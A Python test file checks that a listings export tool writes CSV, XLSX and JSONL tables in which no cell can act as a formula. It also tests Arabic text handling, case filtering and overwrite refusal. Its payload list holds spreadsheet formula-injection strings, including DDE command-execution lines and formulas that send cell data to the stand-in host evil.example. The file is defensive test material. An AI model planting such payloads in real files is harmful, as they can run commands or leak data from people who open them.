"""Tables for risk engines: what stands in them, and that no cell can act."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawler.home import Home
from evidence.risk_tables import COLUMNS, TableRefused, listing_rows, plain_cell, write_table
from storage.audit import AuditChain
from storage.cases import add_exhibit, open_case
from storage.database import Database
from tests.crawling import Place
from tests.review.seed import Offer, add_listing

PAYLOADS = [
    "=1+1", '=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1",
    "\n=1",
    "  =1+1", "\u00a0=1", "\uff1d1+1", "\u200b=1", "=cmd|'/c calc'!A1", "%0A=1", "|cmd", "'=1+1", '"=1+1', "\ufeff=1",
    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
]  # fmt: skip


def rows_of(database: Database, home: Home, *titles: str) -> list[dict]:
    with database.transaction() as session:
        for title in titles:
            add_listing(session, home, Offer(title=title, seller=title, location=title))
    with database.reading() as session:
        return list(listing_rows(session))


def test_no_cell_of_any_form_is_a_formula(database: Database, home: Home, tmp_path: Path) -> None:
    # SEC-22
    rows = rows_of(database, home, *PAYLOADS)
    assert write_table(rows, tmp_path / "t.csv", "csv") == len(PAYLOADS)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        for row in list(csv.reader(file))[1:]:
            for cell in row:
                assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(("=", "+", "@", "\t", "\r", "|", "\uff1d"))
                assert not cell.startswith("-")
    write_table(rows, tmp_path / "t.xlsx", "xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert all(cell.data_type != "f" and cell.hyperlink is None for line in sheet.iter_rows() for cell in line)
    with zipfile.ZipFile(tmp_path / "t.xlsx") as package:
        assert not [name for name in package.namelist() if "externalLink" in name]
        assert b"<f>" not in b"".join(package.read(n) for n in package.namelist() if "sheet" in n)


def test_arabic_stands_as_it_was_and_each_column_is_there(database: Database, home: Home, tmp_path: Path) -> None:
    title = "تمثال فرعوني، مع شهادة"
    rows = rows_of(database, home, title)
    assert tuple(rows[0]) == COLUMNS
    for form in ("csv", "xlsx", "jsonl"):
        write_table(rows, tmp_path / f"t.{form}", form)
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as file:
        assert next(csv.DictReader(file))["title"] == title
    assert title in [cell.value for cell in list(openpyxl.load_workbook(tmp_path / "t.xlsx").active.iter_rows())[1]]
    assert json.loads((tmp_path / "t.jsonl").read_text("utf-8"))["title"] == title


def test_a_case_gives_its_listings_alone(database: Database, home: Home) -> None:
    with database.transaction() as session:
        listing, _ = (add_listing(session, home, Offer(title=t)) for t in ("one", "two"))
        case = open_case(session, AuditChain(), title="lamps", actor="amina")
        observation = listing.current_observation_id
        add_exhibit(session, AuditChain(), case=case, listing_id=listing.id, observation_id=observation, actor="amina")
        reference = case.reference
    with database.reading() as session:
        (row,) = listing_rows(session, case=reference)
        assert (row["title"], row["cases"]) == ("one", reference)
        assert len(list(listing_rows(session, flagged_only=True))) == 2


def test_a_file_that_is_there_stays(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("mine")
    with pytest.raises(TableRefused, match="is there already"):
        write_table([], tmp_path / "t.csv", "csv")
    assert (tmp_path / "t.csv").read_text() == "mine"
    with pytest.raises(TableRefused, match="cannot be written"):
        write_table([], tmp_path / "no" / "t.csv", "csv")


def test_the_command_writes_the_table_and_the_log_tells_of_it(place: Place, tmp_path: Path) -> None:
    rows_of(place.database, place.home, "=1+1")
    to = tmp_path / "t.xlsx"
    said = place.run("listings", "export", "--to", str(to), "--format", "xlsx", "--flagged")
    assert said.status == 0, said.err
    assert openpyxl.load_workbook(to).active.max_row == 2
    assert place.run("listings", "export", "--to", str(to), "--case", "none").status == 2


@given(st.text(max_size=60))
def test_any_text_is_a_cell_that_does_nothing(text: str) -> None:
    cell = plain_cell(text)
    assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(("=", "+", "-", "@", "|", "%"))
